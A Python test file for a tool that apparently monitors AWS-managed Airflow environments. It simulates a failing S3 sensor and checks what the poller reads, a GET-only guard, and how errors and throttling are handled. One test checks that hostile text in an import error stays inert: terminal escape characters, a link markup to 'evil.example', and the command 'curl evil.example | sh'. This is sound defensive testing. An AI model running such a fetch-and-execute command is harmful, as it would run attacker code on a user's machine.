"""Airflow's own view through InvokeRestApi, over real HTTP, for Airflow 2 and 3 shapes.

The simulation is set in the incident (the S3 sensor failing, its pool saturated, the
scheduler's heartbeat stale) at a fixed time, 14 s into a minute: the previous minute's
sensor run has failed, this minute's instances are up for retry or running.
"""

from __future__ import annotations

import asyncio
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import boto3
import pytest
from botocore.config import Config
from botocore.exceptions import ClientError
from rich.console import Console
from rich.text import Text

from mwaa_tui.aws.clients import AwsError, AwsGateway, AwsSettings, ForbiddenOperation
from mwaa_tui.aws.ratelimit import RateLimiter
from mwaa_tui.core.airflow import MAX_PATH
from mwaa_tui.core.environment import parse_environment
from mwaa_tui.core.jsonlog import parse_line
from mwaa_tui.core.snapshots import AirflowSnapshot, EnvironmentSnapshot, ErrorKind, HealthUpdate
from mwaa_tui.pollers.airflow import AirflowPoller, RequestBudget
from mwaa_tui.pollers.tasklogs import read_attempt
from mwaa_tui.sandbox import Faults, Sandbox
from mwaa_tui.sandbox.server import DEMO_CREDENTIALS
from mwaa_tui.sandbox.simulator import Simulator
from tests.conftest import FIXED_NOW

NOW = FIXED_NOW + 14
"""12:00:14: the 11:59 sensor run failed at 12:00:10; the 12:00 run's tries are under way."""
PHASE = 230.0
"""Seconds into the story's cycle at NOW: in the incident (120-270) and in the scheduler's
stale heartbeat (160-250), the sensor pool saturated."""
VERSIONS = ("2.10.3", "3.0.6")
ROLE = "arn:aws:airflow:eu-west-1:123456789012:role/demo/Viewer"


@pytest.fixture
async def gateway(aws_settings: AwsSettings) -> Any:
    """The shared fixture's gateway, paced faster than InvokeRestApi's 10/s: these tests
    are about what is read and shown, not about the pace (the throttling test keeps it)."""
    limiter = RateLimiter({"InvokeRestApi": 200.0, "DescribeLogStreams": 200.0})
    async with AwsGateway(aws_settings, env={}, rate_limiter=limiter) as gw:
        yield gw


@pytest.fixture(autouse=True)
def _no_mutations(sandbox: Sandbox) -> Iterator[None]:
    """A test fails if anything sent the sandbox's Airflow a method other than GET."""
    yield
    assert sandbox.airflow.mutations == [], sandbox.airflow.mutations


def simulate(sandbox: Sandbox, version: str) -> Simulator:
    sim = Simulator(
        sandbox, environment="demo", seed=3, story_offset=PHASE, airflow_version=version
    )
    sim.setup(NOW, history=0)
    return sim


async def environment(gateway: AwsGateway) -> EnvironmentSnapshot:
    resp = await gateway.call("mwaa", "get_environment", Name="demo")
    return parse_environment(resp["Environment"])


async def poll(poller: AirflowPoller) -> tuple[list[AirflowSnapshot], list[HealthUpdate]]:
    got: list[Any] = []
    await poller.step(got.append)
    return (
        [u for u in got if isinstance(u, AirflowSnapshot)],
        [u for u in got if isinstance(u, HealthUpdate)],
    )


async def poller_for(gateway: AwsGateway, **kwargs: Any) -> AirflowPoller:
    return AirflowPoller(gateway, await environment(gateway), clock=lambda: NOW, **kwargs)


def invocations(sandbox: Sandbox) -> int:
    return sandbox.requests[("airflow", "InvokeRestApi")]


@pytest.mark.parametrize("version", VERSIONS)
async def test_each_list_fills(sandbox: Sandbox, gateway: AwsGateway, version: str) -> None:
    simulate(sandbox, version)
    poller = await poller_for(gateway)
    (snap,), (health,) = await poll(poller)
    assert health.health.error is None
    assert snap.api == ("v2" if version.startswith("3") else "v1") and not snap.problems
    # Failed runs of the sensor's DAG, newest first.
    assert snap.failed_runs and {r.dag_id for r in snap.failed_runs} == {"s3_ingest"}
    assert {r.state for r in snap.failed_runs} == {"failed"}
    assert snap.failed_runs[0].run_id == "scheduled__2025-11-25T11:59:00+00:00"
    assert snap.failed_runs[0].duration is not None and snap.failed_runs[0].duration > 0
    # Running and queued: the sensor's current run, and the manual re-run waiting behind it.
    assert snap.running_count >= 1 and snap.queued_count == 1
    queued = [r for r in snap.active_runs if r.state == "queued"]
    assert [r.run_type for r in queued] == ["manual"]
    # Failed task instances, newest first, all three states.
    states = [t.state for t in snap.failed_tasks]
    assert {"failed", "up_for_retry", "upstream_failed"} <= set(states)
    ends = [t.end or t.start or 0 for t in snap.failed_tasks]
    assert ends == sorted(ends, reverse=True)
    failed = [t for t in snap.failed_tasks if t.state == "failed"]
    assert {t.map_index for t in failed} == {0, 1, 2} and {t.try_number for t in failed} == {3}
    assert {t.operator for t in failed} == {"S3KeySensor"}
    assert all(t.stream == "" for t in snap.failed_tasks if t.state == "upstream_failed")
    # Import errors: the file and the last line of its trace.
    (error,) = snap.import_errors
    assert error.filename.endswith("ml_features_v2.py")
    assert error.last_line.startswith("ModuleNotFoundError: No module named 'sklearn'")
    # Pools: the sensors' pool is saturated, listed first.
    assert snap.pools[0].name == "s3_sensors" and snap.pools[0].saturated
    assert not any(p.saturated for p in snap.pools[1:])
    # Component health: the scheduler last beat at phase 159, 71 s before NOW.
    by_name = {c.component: c for c in snap.health}
    assert by_name["scheduler"].status == "unhealthy" and by_name["scheduler"].age(NOW) == 71
    assert by_name["metadatabase"].healthy and by_name["triggerer"].healthy
    assert [c.component for c in snap.unhealthy] == ["scheduler"]
    assert by_name["dag_processor"].healthy == version.startswith("3")
    assert snap.requests == invocations(sandbox) == 9


@pytest.mark.parametrize("version", VERSIONS)
async def test_a_failed_instance_opens_its_log(
    sandbox: Sandbox, gateway: AwsGateway, version: str
) -> None:
    simulate(sandbox, version)
    (snap,), _ = await poll(await poller_for(gateway))
    group = "airflow-demo-Task"
    ran = [t for t in snap.failed_tasks if t.state in ("failed", "up_for_retry")]
    assert len(ran) >= 4
    for row in ran:
        listed = await gateway.call(
            "logs", "describe_log_streams", logGroupName=group, logStreamNamePrefix=row.stream
        )
        assert [s["logStreamName"] for s in listed["logStreams"]] == [row.stream]
    for state in ("failed", "up_for_retry"):
        row = next(t for t in ran if t.state == state)
        events, _ = await read_attempt(gateway, group, row.stream, None, redact=True)
        first, last = events[0].message, events[-1].message
        marking = f"Marking task as {state.upper()}."
        if version.startswith("3"):
            head, tail = parse_line(first), parse_line(last)
            assert head is not None and head.event.startswith("Dependencies all met")
            assert tail is not None and tail.event.startswith(marking)
            assert any((line := parse_line(e.message)) and line.level == "ERROR" for e in events)
        else:
            assert "Dependencies all met" in first and marking in last
            assert parse_line(first) is None


async def test_the_get_only_guard_refuses_before_sending(
    sandbox: Sandbox, gateway: AwsGateway
) -> None:
    sandbox.create_environment("demo")
    before = invocations(sandbox)
    patch = {"Name": "demo", "Path": "/dags/s3_ingest", "Method": "PATCH"}
    with pytest.raises(ForbiddenOperation, match="only GET"):
        await gateway.call("mwaa", "invoke_rest_api", **patch, Body={"is_paused": True})
    # The botocore hook refuses a direct client call that skips `call`, too.
    client = await gateway.client("mwaa")
    with pytest.raises(ForbiddenOperation, match="only GET"):
        await client.invoke_rest_api(**patch, Body={"is_paused": True})
    for path in ("/connections", "/variables", "/eventLogs", "/dags/" + "x" * 60):
        with pytest.raises(ForbiddenOperation, match="InvokeRestApi refused"):
            await client.invoke_rest_api(Name="demo", Path=path, Method="GET")
    assert invocations(sandbox) == before and sandbox.airflow.requests == []
    # A GET on the list goes through: the guard is not simply closed.
    resp = await gateway.call("mwaa", "invoke_rest_api", Name="demo", Path="/version", Method="GET")
    assert resp["RestApiResponse"]["version"] == "2.10.3" and invocations(sandbox) == before + 1


async def test_every_path_the_poller_sends_is_a_short_get(
    sandbox: Sandbox, gateway: AwsGateway
) -> None:
    simulate(sandbox, "3.0.6")
    # Tiny pages, so that paging (limit and offset) is exercised too.
    poller = await poller_for(gateway, page_limit=1, max_pages=2)
    (snap,), _ = await poll(poller)
    sent = sandbox.airflow.requests
    assert len(sent) == snap.requests > 9
    assert all(method == "GET" and len(path) <= MAX_PATH for method, path, _ in sent)
    offsets = {q.get("offset") for _, path, q in sent if path.endswith("taskInstances")}
    assert offsets == {0, 1}
    assert "task_instances (first 2)" in snap.truncated  # three failed, two pages of one
    assert len([t for t in snap.failed_tasks if t.state == "failed"]) == 2


async def test_the_sandbox_holds_the_64_character_limit(sandbox: Sandbox) -> None:
    """What a client without mwaa-tui's guard (and botocore's own validation off) meets."""
    sandbox.create_environment("demo")
    raw = boto3.client(
        "mwaa",
        region_name=sandbox.region,
        endpoint_url=sandbox.url,
        aws_access_key_id=DEMO_CREDENTIALS[0],
        aws_secret_access_key=DEMO_CREDENTIALS[1],
        config=Config(parameter_validation=False, inject_host_prefix=False),
    )
    long_path = "/dags/" + "d" * 40 + "/dagRuns/" + "r" * 20
    with pytest.raises(ClientError) as caught:
        await asyncio.to_thread(raw.invoke_rest_api, Name="demo", Path=long_path, Method="GET")
    assert caught.value.response["Error"]["Code"] == "ValidationException"
    assert "64" in caught.value.response["Error"]["Message"]
    with pytest.raises(ClientError) as viewer:
        await asyncio.to_thread(raw.invoke_rest_api, Name="demo", Path="/eventLogs", Method="GET")
    assert viewer.value.response["Error"]["Code"] == "RestApiClientException"
    assert viewer.value.response["RestApiStatusCode"] == 403
    # A mutation reaches the sandbox only this way: it is recorded, and refused by Airflow.
    with pytest.raises(ClientError) as mutation:
        await asyncio.to_thread(
            raw.invoke_rest_api, Name="demo", Path="/dags/x", Method="PATCH", Body={"a": 1}
        )
    assert mutation.value.response["RestApiStatusCode"] == 403
    assert sandbox.airflow.mutations == [("PATCH", "/dags/x", {"a": 1})]
    sandbox.airflow.mutations.clear()  # recorded on purpose here


async def test_denied_names_the_action_and_the_role_to_grant(
    sandbox: Sandbox, gateway: AwsGateway
) -> None:
    simulate(sandbox, "2.10.3")
    poller = await poller_for(gateway)
    (good,), _ = await poll(poller)
    sandbox.airflow.denied = True
    (snap,), (health,) = await poll(poller)
    error = health.health.error
    assert error is not None and error.kind is ErrorKind.DENIED
    assert error.action == "airflow:InvokeRestApi" and ROLE in error.hint
    (problem,) = snap.problems
    assert problem.section == "" and "airflow:InvokeRestApi" in problem.message
    assert ROLE in problem.message
    # What was shown stays, with the reason; the next try is slow, as for any denial.
    assert snap.failed_runs == good.failed_runs and snap.fetched_at == good.fetched_at
    assert health.health.next_attempt is not None and health.health.next_attempt - NOW >= 120


async def test_a_private_webserver_reads_clearly(sandbox: Sandbox, gateway: AwsGateway) -> None:
    simulate(sandbox, "3.0.6")
    sandbox.airflow.private_webserver = True
    poller = await poller_for(gateway)
    (snap,), (health,) = await poll(poller)
    assert health.health.error is not None
    described = health.health.error.describe()
    assert "private" in described and "VPC" in described and "denied" not in described
    assert snap.problems[0].message == described and snap.failed_runs == ()
    assert invocations(sandbox) == 1  # the poll stops at the first such answer


async def test_an_airflow_403_or_503_costs_only_its_list(
    sandbox: Sandbox, gateway: AwsGateway
) -> None:
    simulate(sandbox, "2.10.3")
    poller = await poller_for(gateway)
    (first,), _ = await poll(poller)
    sandbox.airflow.viewer_forbidden.add("/pools")
    sandbox.airflow.fail["/importErrors"] = 503
    sandbox.airflow.requests.clear()
    (snap,), (health,) = await poll(poller)
    assert health.health.error is None
    forbidden, failing = sorted(snap.problems, key=lambda p: p.status or 0)
    assert (forbidden.section, forbidden.status) == ("pools", 403)
    assert "Viewer role" in forbidden.message and "/pools" in forbidden.message
    assert (failing.section, failing.status) == ("import errors", 503)
    assert "503 on /importErrors" in failing.message and "retrying" in failing.message
    # Each keeps what it showed; the others are fresh.
    assert snap.pools == first.pools and snap.import_errors == first.import_errors
    assert snap.failed_runs and snap.failed_tasks and snap.fetched_at == NOW
    # A 5xx was tried three times by the gateway, a 403 once.
    paths = [path for _, path, _ in sandbox.airflow.requests]
    assert paths.count("/importErrors") == 3 and paths.count("/pools") == 1


@pytest.mark.parametrize("seed", [1, 2, 3])
async def test_random_airflow_5xx_are_shown_and_ridden_out(
    sandbox: Sandbox, aws_settings: AwsSettings, seed: int
) -> None:
    import random

    simulate(sandbox, "3.0.6")
    sandbox.airflow.server_error_share = 0.3
    sandbox.airflow.rng = random.Random(seed)
    limiter = RateLimiter({"InvokeRestApi": 200.0})
    async with AwsGateway(
        aws_settings, env={}, rate_limiter=limiter, rng=random.Random(seed)
    ) as gateway:
        await two_polls(await poller_for(gateway, budget=RequestBudget(1000)))
    # The gateway re-sent the 5xx (transient) before a list gave up: more attempts than reads.
    assert invocations(sandbox) == len(sandbox.airflow.requests) > 18


async def two_polls(poller: AirflowPoller) -> None:
    seen: set[str] = set()
    for _ in range(2):
        (snap,), (health,) = await poll(poller)
        assert health.health.error is None  # an Airflow 5xx is not an outage of the source
        for problem in snap.problems:
            assert problem.status is not None and problem.status >= 500
            assert f"{problem.status} on /" in problem.message
        filled = {
            "health": snap.health,
            "failed runs": snap.failed_runs,
            "failed tasks": snap.failed_tasks,
            "import errors": snap.import_errors,
            "pools": snap.pools,
            "running and queued runs": snap.active_runs,
        }
        # A list never empties because its request failed: it keeps what it had.
        assert all(filled[name] for name in seen)
        seen |= {name for name, rows in filled.items() if rows}
    assert len(seen) == 6


@pytest.mark.parametrize("seed", [4, 5])
async def test_throttling_is_ridden_out(
    sandbox: Sandbox, aws_settings: AwsSettings, seed: int
) -> None:
    import random

    simulate(sandbox, "2.10.3")
    sandbox.faults = Faults(throttle={"mwaa": 0.2}, seed=seed)
    async with AwsGateway(aws_settings, env={}, rng=random.Random(seed)) as gateway:
        (snap,), (health,) = await poll(await poller_for(gateway))
        assert health.health.error is None and not snap.problems
        assert snap.failed_runs and snap.failed_tasks and snap.pools and snap.health
        throttled = sum(
            n for (_, outcome), n in gateway.stats.totals.items() if outcome == "throttled"
        )
    assert throttled == sandbox.faults.injected["throttle"] > 0
    assert snap.requests == 9


async def test_below_2_4_3_nothing_is_asked(sandbox: Sandbox, gateway: AwsGateway) -> None:
    sandbox.create_environment("old", airflow_version="2.2.2")
    resp = await gateway.call("mwaa", "get_environment", Name="old")
    poller = AirflowPoller(gateway, parse_environment(resp["Environment"]), clock=lambda: NOW)
    (snap,), (health,) = await poll(poller)
    assert not snap.available and "2.2.2" in snap.note and "2.4.3" in snap.note
    assert health.health.error is None and invocations(sandbox) == 0
    # An upgrade seen by the environment poller turns it on.
    poller.update_environment(replace(poller.environment, airflow_version="2.10.3"))
    sandbox.set_environment_state("old", "AVAILABLE")
    sandbox.mwaa.environments["old"].airflow_version = "2.10.3"
    (snap,), _ = await poll(poller)
    assert snap.available and snap.api == "v1" and snap.pools


async def test_the_budget_caps_requests_per_minute(sandbox: Sandbox, gateway: AwsGateway) -> None:
    simulate(sandbox, "2.10.3")
    poller = await poller_for(gateway, budget=RequestBudget(12))
    (first,), _ = await poll(poller)
    (second,), _ = await poll(poller)
    assert first.requests == 9 and second.requests == 3
    assert second.truncated and "request budget" in second.truncated[0]
    assert second.import_errors == first.import_errors  # skipped lists keep their rows
    assert invocations(sandbox) == 12


async def test_hostile_text_in_an_import_error_is_inert(
    sandbox: Sandbox, gateway: AwsGateway
) -> None:
    simulate(sandbox, "3.0.6")
    (snap,), _ = await poll(await poller_for(gateway))
    (error,) = snap.import_errors
    for text in (error.filename, error.last_line, error.stack_trace):
        assert not any(c in text for c in "\x1b\x07\x9b\r\u202e"), repr(text)
    assert "hunter2" not in error.stack_trace  # a credential in the trace is masked
    assert "[link=https://evil.example]" in error.last_line  # markup stays literal text
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system="truecolor", width=400)
    console.print(Text(error.stack_trace), Text(error.last_line))
    drawn = out.getvalue()
    assert "\x1b]8;" not in drawn and "\x1b]0;" not in drawn and "\x1b[2J" not in drawn
    assert "[bold red]curl evil.example | sh[/bold red]" in drawn
    assert "see the fix[/link]" in drawn


async def test_the_sandbox_answers_both_api_shapes(sandbox: Sandbox, gateway: AwsGateway) -> None:
    for name, version in (("two", "2.10.3"), ("three", "3.0.6")):
        sandbox.create_environment(name, airflow_version=version)

    async def get(name: str, path: str, **query: Any) -> Any:
        resp = await gateway.call(
            "mwaa", "invoke_rest_api", Name=name, Path=path, Method="GET", QueryParameters=query
        )
        return resp["RestApiResponse"]

    assert "scheduler" in await get("two", "/health")
    assert "scheduler" in await get("three", "/monitor/health")
    for name, path in (("two", "/monitor/health"), ("three", "/health")):
        with pytest.raises(AwsError) as missing:
            await get(name, path)
        assert missing.value.fields["RestApiStatusCode"] == 404
    # Airflow 2 refuses a parameter it does not know; Airflow 3 ignores it.
    with pytest.raises(AwsError) as strict:
        await get("two", "/dags/~/dagRuns", bogus="1")
    assert strict.value.code == "RestApiClientException"
    assert strict.value.fields["RestApiStatusCode"] == 400
    assert (await get("three", "/dags/~/dagRuns", bogus="1"))["total_entries"] == 0
    pools = (await get("three", "/pools"))["pools"]
    assert json.dumps(pools) and {p["name"] for p in pools} == {"default_pool", "s3_sensors"}


DEMO_CHECK = """
import json, boto3
from botocore.config import Config
from mwaa_tui.cli import _target, build_parser

args = build_parser().parse_args(["--demo", "--airflow-version", "3.0.6"])
with _target(args) as (settings, name, sandbox):
    key, secret = settings.static_credentials
    client = dict(
        region_name=settings.region, endpoint_url=settings.endpoint_url,
        aws_access_key_id=key, aws_secret_access_key=secret,
        config=Config(inject_host_prefix=False),
    )
    mwaa = boto3.client("mwaa", **client)
    version = mwaa.get_environment(Name=name)["Environment"]["AirflowVersion"]
    health = mwaa.invoke_rest_api(Name=name, Path="/monitor/health", Method="GET")
    served = mwaa.invoke_rest_api(Name=name, Path="/version", Method="GET")
    try:
        mwaa.invoke_rest_api(Name=name, Path="/health", Method="GET")
        v1_health = 200
    except mwaa.exceptions.RestApiClientException as exc:
        v1_health = exc.response["RestApiStatusCode"]
    print(json.dumps([version, health["RestApiResponse"], served["RestApiResponse"], v1_health]))
"""


def test_the_demo_runs_as_airflow_3(tmp_path: Any) -> None:
    """`mwaa-tui --demo --airflow-version 3.0.6` starts an Airflow 3 environment that answers
    with API v2 (in a child process: the demo starts its own sandbox; moto's state is global)."""
    import os
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    env["AWS_CONFIG_FILE"] = env["AWS_SHARED_CREDENTIALS_FILE"] = str(tmp_path / "none")
    out = subprocess.run(
        [sys.executable, "-c", DEMO_CHECK], capture_output=True, text=True, env=env, timeout=60
    )
    assert out.returncode == 0, out.stderr
    version, health, served, v1_health = json.loads(out.stdout)
    assert version == served["version"] == "3.0.6"
    assert health["scheduler"]["latest_scheduler_heartbeat"].endswith("Z")  # v2 times
    assert health["dag_processor"]["status"] == "healthy"  # Airflow 3 always runs one
    assert v1_health == 404  # /health is API v1's
    # Its task logs are JSON lines: test_a_failed_instance_opens_its_log[3.0.6] reads them.
